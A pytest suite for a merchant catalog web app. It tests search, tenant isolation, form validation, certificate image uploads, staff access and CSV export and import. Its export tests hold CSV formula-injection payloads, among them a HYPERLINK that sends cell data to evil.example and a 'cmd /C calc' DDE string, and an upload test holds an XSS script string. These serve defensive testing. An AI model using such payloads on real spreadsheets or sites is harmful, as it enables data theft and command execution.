"""The merchant catalog: list, search, create, edit, archive, certificates, staff view, export."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import pytest
from PIL import Image

from portal.auth.models import Role
from portal.catalog.models import Category, Item
from tests.portal.helpers import count_rows, fetch, field_errors, in_english, png_bytes

ITEM_FIELDS = (
    "sku", "name", "aliases", "category_id", "price_cents", "description",
    "cert_lab", "cert_number", "cert_grade", "is_designer_new",
)  # fmt: skip


@pytest.fixture
def browser(client_as, merchant):
    """The merchant's browser, in English."""
    return in_english(client_as(merchant))


@pytest.fixture
def other_org(make_org):
    """A second merchant organisation."""
    return make_org("hetian")


def _category_id(app, name_zh):
    return fetch(app, Category, Category.name_zh == name_zh).id


def _listed_skus(html):
    return re.findall(r'<td data-label="SKU">([^<]+)</td>', html)


def _item_form(**changes):
    data = {
        "sku": "CY-100",
        "name": "冰种翡翠手镯",
        "aliases": "冰种手镯\n翡翠镯子, jadeite bangle",
        "category_id": "0",
        "price": "12800.50",
        "description": "种水好",
        "cert_lab": "NGTC",
        "cert_number": "N-1",
        "cert_grade": "A货",
    }
    return data | changes


def _cert_files(app, org_id):
    folder = Path(app.config["MEDIA_ROOT"]) / "certificates" / str(org_id)
    return sorted(folder.iterdir()) if folder.exists() else []


# Listing, searching, filtering


@pytest.fixture
def stocked(app, merchant_org, other_org, make_item):
    """Items of two organisations."""
    jadeite, pearl = _category_id(app, "翡翠"), _category_id(app, "珍珠")
    make_item(
        merchant_org, sku="CY-001", name="冰种翡翠手镯", aliases=["冰种手镯", "Jadeite Bangle"],
        category_id=jadeite,
    )  # fmt: skip
    make_item(
        merchant_org, sku="CY-002", name="淡水珍珠项链", aliases=["珍珠项链"], category_id=pearl
    )
    make_item(
        merchant_org, sku="CY-003", name="翡翠平安扣", aliases=["平安扣"], category_id=jadeite
    )
    make_item(other_org, sku="HT-001", name="和田玉冰种手镯", aliases=["冰种手镯"])
    return {"jadeite": jadeite, "pearl": pearl}


def test_merchant_lists_only_own_items(browser, stocked):
    page = browser.get("/catalog/")

    assert page.status_code == 200
    assert _listed_skus(page.text) == ["CY-001", "CY-002", "CY-003"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("珍珠", ["CY-002"]),  # name
        ("cy-003", ["CY-003"]),  # SKU, any case
        ("平安扣", ["CY-003"]),  # Chinese alias
        ("冰种手镯", ["CY-001"]),  # Chinese alias, never another organisation's
        ("jadeite bangle", ["CY-001"]),  # Latin alias, any case
        ("翡翠", ["CY-001", "CY-003"]),
        ("没有这个", []),
        ("cy-00_", []),  # LIKE wildcards are plain text
        ("cy%3", []),
    ],
)
def test_merchant_searches_by_name_sku_or_alias(browser, stocked, query, expected):
    page = browser.get("/catalog/", query_string={"q": query})

    assert page.status_code == 200
    assert _listed_skus(page.text) == expected


def test_merchant_filters_by_category(browser, stocked):
    page = browser.get("/catalog/", query_string={"category": stocked["pearl"]})

    assert _listed_skus(page.text) == ["CY-002"]


def test_merchant_sees_archived_items_only_when_asked(app, browser, stocked):
    item = fetch(app, Item, Item.sku == "CY-002")
    browser.post(f"/catalog/items/{item.id}/archive")

    assert _listed_skus(browser.get("/catalog/").text) == ["CY-001", "CY-003"]
    shown = browser.get("/catalog/", query_string={"archived": "y"})
    assert _listed_skus(shown.text) == ["CY-001", "CY-002", "CY-003"]
    assert "Archived" in shown.text


def test_merchant_htmx_list_request_gets_only_item_list_fragment(browser, stocked):
    response = browser.get("/catalog/?q=珍珠", headers={"HX-Request": "true"})

    assert response.status_code == 200
    body = response.text.strip()
    assert body.startswith('<div id="item-list">')
    assert body.endswith("</div>")
    assert "<html" not in body
    assert "<form" not in body
    assert _listed_skus(body) == ["CY-002"]
    assert "HX-Request" in response.headers["Vary"]


# Creating and editing


def test_merchant_creates_item(app, browser, merchant_org):
    response = browser.post(
        "/catalog/items/new", data=_item_form(category_id=str(_category_id(app, "翡翠")))
    )

    assert response.status_code == 302
    item = fetch(app, Item, Item.sku == "CY-100")
    assert response.headers["Location"] == f"/catalog/items/{item.id}"
    assert item.org_id == merchant_org.id
    assert item.aliases == ["冰种手镯", "翡翠镯子", "jadeite bangle"]
    assert item.price_cents == 1280050
    assert item.category_id == _category_id(app, "翡翠")
    detail = browser.get(response.headers["Location"])
    assert "冰种翡翠手镯" in detail.text
    assert "¥12,800.50" in detail.text


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"sku": ""}, "sku", "This field is required."),
        ({"sku": "CY 1/2"}, "sku", "Letters, digits, - _ and . only."),
        ({"name": ""}, "name", "This field is required."),
        ({"price": "-1"}, "price", "Number must be between 0 and 100000000."),
    ],
)
def test_merchant_creating_invalid_item_sees_error_in_place(app, browser, changes, field, message):
    response = browser.post("/catalog/items/new", data=_item_form(**changes))

    assert response.status_code == 200
    assert field_errors(response.text, field) == [message]
    assert count_rows(app, Item) == 0


def test_merchant_entering_non_numeric_price_sees_error_in_place(app, browser):
    response = browser.post("/catalog/items/new", data=_item_form(price="abc"))

    assert response.status_code == 200
    assert "Not a valid decimal value." in field_errors(response.text, "price")
    assert count_rows(app, Item) == 0


def test_merchant_reusing_own_sku_sees_error_in_place(app, browser, merchant_org, make_item):
    make_item(merchant_org, sku="CY-100")

    response = browser.post("/catalog/items/new", data=_item_form())

    assert response.status_code == 200
    assert field_errors(response.text, "sku") == ["Another item already uses this SKU."]
    assert count_rows(app, Item) == 1


def test_merchant_may_use_sku_that_another_organisation_uses(
    app, browser, merchant_org, other_org, make_item
):
    make_item(other_org, sku="CY-100")

    response = browser.post("/catalog/items/new", data=_item_form())

    assert response.status_code == 302
    assert count_rows(app, Item, Item.sku == "CY-100") == 2
    assert count_rows(app, Item, Item.org_id == merchant_org.id) == 1


def test_merchant_edits_item(app, browser, merchant_org, make_item):
    item = make_item(merchant_org, sku="CY-100", name="旧名字", aliases=["旧别名"])
    form_page = browser.get(f"/catalog/items/{item.id}/edit")
    assert form_page.status_code == 200
    assert "旧别名" in form_page.text

    response = browser.post(
        f"/catalog/items/{item.id}/edit",
        data=_item_form(sku="CY-101", name="新名字", aliases="新别名", price=""),
    )

    assert response.status_code == 302
    edited = fetch(app, Item, Item.id == item.id)
    assert (edited.sku, edited.name, edited.aliases, edited.price_cents) == (
        "CY-101", "新名字", ["新别名"], None,
    )  # fmt: skip


def test_merchant_editing_to_taken_sku_sees_error_and_item_is_unchanged(
    app, browser, merchant_org, make_item
):
    make_item(merchant_org, sku="CY-1")
    item = make_item(merchant_org, sku="CY-2", name="原名")

    response = browser.post(
        f"/catalog/items/{item.id}/edit", data=_item_form(sku="CY-1", name="改名")
    )

    assert response.status_code == 200
    assert field_errors(response.text, "sku") == ["Another item already uses this SKU."]
    assert fetch(app, Item, Item.id == item.id).name == "原名"


def test_merchant_archives_and_restores_item(app, browser, merchant_org, make_item):
    item = make_item(merchant_org, sku="CY-1")

    assert browser.post(f"/catalog/items/{item.id}/archive").status_code == 302
    assert fetch(app, Item, Item.id == item.id).archived_at is not None
    assert 'name="restore"' in browser.get(f"/catalog/items/{item.id}").text

    browser.post(f"/catalog/items/{item.id}/archive", data={"restore": "1"})
    assert fetch(app, Item, Item.id == item.id).archived_at is None


# Certificate images


def test_merchant_uploads_certificate_png_stored_as_jpeg(app, browser, merchant_org):
    data = _item_form() | {"cert_image": (io.BytesIO(png_bytes()), "证书.png")}

    response = browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")

    assert response.status_code == 302
    item = fetch(app, Item, Item.sku == "CY-100")
    assert re.fullmatch(r"[0-9a-f]{32}\.jpg", item.cert_image)
    [stored] = _cert_files(app, merchant_org.id)
    assert stored.name == item.cert_image
    served = browser.get(f"/catalog/items/{item.id}/certificate")
    assert served.status_code == 200
    assert served.mimetype == "image/jpeg"
    assert served.data == stored.read_bytes()
    with Image.open(io.BytesIO(served.data)) as image:
        assert (image.format, image.size) == ("JPEG", (64, 40))
    assert f"/catalog/items/{item.id}/certificate" in browser.get(f"/catalog/items/{item.id}").text


def test_merchant_replacing_certificate_removes_old_file(app, browser, merchant_org, make_item):
    item = make_item(merchant_org, sku="CY-100")
    for color in ("green", "white"):
        data = _item_form() | {"cert_image": (io.BytesIO(png_bytes(color=color)), "c.png")}
        response = browser.post(
            f"/catalog/items/{item.id}/edit", data=data, content_type="multipart/form-data"
        )
        assert response.status_code == 302

    [stored] = _cert_files(app, merchant_org.id)
    assert stored.name == fetch(app, Item, Item.id == item.id).cert_image


def test_merchant_editing_item_without_new_certificate_keeps_the_old_one(
    app, browser, merchant_org
):
    data = _item_form() | {"cert_image": (io.BytesIO(png_bytes()), "c.png")}
    created = browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")
    before = fetch(app, Item, Item.sku == data["sku"]).cert_image
    edit = _item_form() | {"name": "改过的名字", "cert_image": (io.BytesIO(b""), "")}

    response = browser.post(
        f"{created.headers['Location']}/edit", data=edit, content_type="multipart/form-data"
    )

    assert response.status_code == 302
    item = fetch(app, Item, Item.sku == data["sku"])
    assert (item.name, item.cert_image) == ("改过的名字", before)
    assert [p.name for p in _cert_files(app, merchant_org.id)] == [before]


def test_merchant_uploading_text_renamed_png_sees_error_and_nothing_is_stored(
    app, browser, merchant_org
):
    data = _item_form() | {"cert_image": (io.BytesIO(b"<script>alert(1)</script>"), "cert.png")}

    response = browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")

    assert response.status_code == 200
    assert field_errors(response.text, "cert_image") == ["This file is not a readable image."]
    assert count_rows(app, Item) == 0
    assert _cert_files(app, merchant_org.id) == []


@pytest.mark.parametrize("app_config", [{"MAX_IMAGE_BYTES": 2000}])
def test_merchant_uploading_image_over_size_limit_sees_error_and_nothing_is_stored(
    app, browser, merchant_org
):
    noise = Image.frombytes("RGB", (100, 100), os.urandom(100 * 100 * 3))
    buffer = io.BytesIO()
    noise.save(buffer, format="PNG")
    assert len(buffer.getvalue()) > 2000
    data = _item_form() | {"cert_image": (io.BytesIO(buffer.getvalue()), "big.png")}

    response = browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")

    assert response.status_code == 200
    [error] = field_errors(response.text, "cert_image")
    assert error.startswith("The image is larger than")
    assert count_rows(app, Item) == 0
    assert _cert_files(app, merchant_org.id) == []


def test_merchant_editing_with_unreadable_image_keeps_item_unchanged(
    app, browser, merchant_org, make_item
):
    item = make_item(merchant_org, sku="CY-100", name="原名")
    data = _item_form(name="改名") | {"cert_image": (io.BytesIO(b"GIF89a not really"), "c.png")}

    response = browser.post(
        f"/catalog/items/{item.id}/edit", data=data, content_type="multipart/form-data"
    )

    assert response.status_code == 200
    assert field_errors(response.text, "cert_image") == ["This file is not a readable image."]
    unchanged = fetch(app, Item, Item.id == item.id)
    assert (unchanged.name, unchanged.cert_image) == ("原名", None)


def test_merchant_uploading_pdf_named_file_sees_type_error(app, browser):
    data = _item_form() | {"cert_image": (io.BytesIO(b"%PDF-1.4"), "cert.pdf")}

    response = browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")

    assert response.status_code == 200
    assert field_errors(response.text, "cert_image") == ["Upload a JPEG, PNG or WebP image."]
    assert count_rows(app, Item) == 0


def test_merchant_item_without_certificate_image_answers_404(browser, merchant_org, make_item):
    item = make_item(merchant_org)

    assert browser.get(f"/catalog/items/{item.id}/certificate").status_code == 404


# Staff: read-only view of every catalog


@pytest.mark.parametrize("role", [Role.TRAINER, Role.ADMIN])
def test_staff_sees_every_organisations_items_read_only(
    app, client_as, make_user, stocked, other_org, role
):
    browser = in_english(client_as(make_user(role)))

    page = browser.get("/catalog/all")
    assert page.status_code == 200
    assert _listed_skus(page.text) == ["CY-001", "CY-002", "CY-003", "HT-001"]
    only_other = browser.get("/catalog/all", query_string={"org": other_org.id})
    assert _listed_skus(only_other.text) == ["HT-001"]
    searched = browser.get("/catalog/all", query_string={"q": "冰种手镯"})
    assert _listed_skus(searched.text) == ["CY-001", "HT-001"]

    item = fetch(app, Item, Item.sku == "HT-001")
    detail = browser.get(f"/catalog/all/items/{item.id}")
    assert detail.status_code == 200
    assert "和田玉冰种手镯" in detail.text
    assert "/edit" not in detail.text
    assert "/archive" not in detail.text


@pytest.mark.parametrize("role", [Role.TRAINER, Role.ADMIN])
def test_staff_cannot_use_merchant_routes(app, client_as, make_user, merchant_org, make_item, role):
    browser = client_as(make_user(role))
    item = make_item(merchant_org, sku="CY-1", name="原名")
    forbidden = [
        ("GET", "/catalog/"),
        ("GET", "/catalog/items/new"),
        ("POST", "/catalog/items/new"),
        ("GET", f"/catalog/items/{item.id}"),
        ("POST", f"/catalog/items/{item.id}/edit"),
        ("POST", f"/catalog/items/{item.id}/archive"),
        ("GET", "/catalog/export.csv"),
        ("POST", "/catalog/import"),
    ]

    for method, url in forbidden:
        response = browser.open(url, method=method, data=_item_form(sku="CY-1", name="改名"))
        assert response.status_code == 403, (method, url)

    unchanged = fetch(app, Item, Item.id == item.id)
    assert (unchanged.name, unchanged.archived_at) == ("原名", None)
    assert count_rows(app, Item) == 1


def test_staff_sees_certificate_image_of_any_item(app, browser, client_as, trainer):
    data = _item_form() | {"cert_image": (io.BytesIO(png_bytes()), "c.png")}
    browser.post("/catalog/items/new", data=data, content_type="multipart/form-data")
    item = fetch(app, Item, Item.sku == "CY-100")

    response = client_as(trainer).get(f"/catalog/all/items/{item.id}/certificate")

    assert response.status_code == 200
    assert response.mimetype == "image/jpeg"


# Export


def _export(browser):
    export = browser.get("/catalog/export.csv")
    assert export.status_code == 200
    return export


def _import(browser, raw):
    upload = browser.post(
        "/catalog/import",
        data={"file": (io.BytesIO(raw), "catalog.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302
    assert browser.post(upload.headers["Location"]).status_code == 302


def _snapshot(app, org):
    with app.app_context():
        from portal.extensions import db

        items = db.session.scalars(db.select(Item).where(Item.org_id == org.id).order_by(Item.sku))
        return [tuple(getattr(i, f) for f in ITEM_FIELDS) for i in items]


def test_merchant_exported_csv_round_trips_through_import(
    app, client_as, make_user, merchant_org, other_org, make_item
):
    make_item(
        merchant_org, sku="CY-1", name="冰种翡翠手镯", aliases=["冰种手镯", "jade bangle"],
        category_id=_category_id(app, "翡翠"), price_cents=1280050, description="第一行\n第二行",
        cert_lab="NGTC", cert_number="N-1", cert_grade="A货", is_designer_new=True,
    )  # fmt: skip
    make_item(merchant_org, sku="CY-2", name="无价格", aliases=[], price_cents=None)
    exporter = client_as(make_user(Role.MERCHANT, merchant_org))

    export = _export(exporter)

    assert export.mimetype == "text/csv"
    assert "attachment" in export.headers["Content-Disposition"]
    assert export.data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
    assert [r["sku"] for r in rows] == ["CY-1", "CY-2"]
    assert rows[0]["price"] == "12800.50"

    _import(client_as(make_user(Role.MERCHANT, other_org)), export.data)
    assert _snapshot(app, other_org) == _snapshot(app, merchant_org)


FORMULA_TEXTS = {
    "F-1": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "F-2": "+1+1",
    "F-3": "-2+3+cmd' /C calc'!A0",
    "F-4": "@SUM(1,2)",
    "F-5": "'=typed with a quote already",
    "F-6": "''-two quotes",
}


def test_merchant_export_writes_formula_text_as_text_and_import_gives_it_back(
    app, client_as, make_user, merchant_org, other_org, make_item
):
    for sku, text in FORMULA_TEXTS.items():
        make_item(
            merchant_org, sku=sku, name=text, aliases=["@A1", "别名"], description=text,
            cert_lab=text, cert_number=text, cert_grade=text, price_cents=500,
        )  # fmt: skip
    make_item(merchant_org, sku="=1+1", name="-5", aliases=[], price_cents=0)
    exporter = client_as(make_user(Role.MERCHANT, merchant_org))

    export = _export(exporter)

    rows = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_sku = {row[0]: row for row in rows[1:]}
    assert by_sku["F-1"][1] == "'" + FORMULA_TEXTS["F-1"]
    assert by_sku["F-5"][1] == "'" + FORMULA_TEXTS["F-5"]
    assert by_sku["F-6"][1] == "'''-two quotes"
    assert by_sku["'=1+1"][1:2] == ["'-5"]
    assert [by_sku[sku][4] for sku in ("F-1", "'=1+1")] == ["5.00", "0.00"]  # numbers stay

    _import(client_as(make_user(Role.MERCHANT, other_org)), export.data)
    assert _snapshot(app, other_org) == _snapshot(app, merchant_org)
    names = {sku: name for sku, name, *_rest in _snapshot(app, other_org)}
    assert names["F-1"] == FORMULA_TEXTS["F-1"]
    assert names["=1+1"] == "-5"


def test_merchant_export_quotes_text_starting_with_a_tab_or_carriage_return(
    app, client_as, merchant, merchant_org, make_item
):
    make_item(merchant_org, sku="T-1", name="\t=1+1", description="\r=2+2")

    rows = list(csv.reader(io.StringIO(_export(client_as(merchant)).data.decode("utf-8-sig"))))

    assert (rows[1][1], rows[1][5]) == ("'\t=1+1", "'\r=2+2")
